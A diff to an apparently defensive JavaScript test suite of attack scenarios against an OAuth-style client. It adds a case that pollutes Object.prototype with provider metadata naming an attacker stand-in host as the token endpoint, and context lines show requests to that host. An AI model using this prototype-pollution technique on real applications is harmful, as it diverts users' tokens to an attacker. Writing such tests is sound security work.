@@ -43,7 +43,7 @@ export const options = [
       await app.fetch(`${config.attacker}orders`, {}).catch(record);
     },
     disturbs: true,
-    lost: { after: { closure: 'hooks' }, before: { closure: 'hooks' } },
+    lost: { after: { closure: 'hooks' } },
   },
   {
     id: 'options-pollution-wire',
@@ -69,6 +69,16 @@ export const options = [
       await Promise.race([victim('fetch', 'checkSession'), wait(3000)]);
     },
     disturbs: true,
+  },
+  {
+    id: 'options-pollution-metadata',
+    title: 'pollutes Object.prototype with metadata that names its own server as token endpoint, as the wire has it',
+    when: 'both',
+    async run({ hooks, config, victim, thief }) {
+      const metadata = { ...(await thief.metadata()), token_endpoint: `${config.attacker}token` };
+      pollute({ metadata: JSON.stringify(metadata) }, hooks);
+      await victim();
+    },
   },
   {
     id: 'options-mutation',
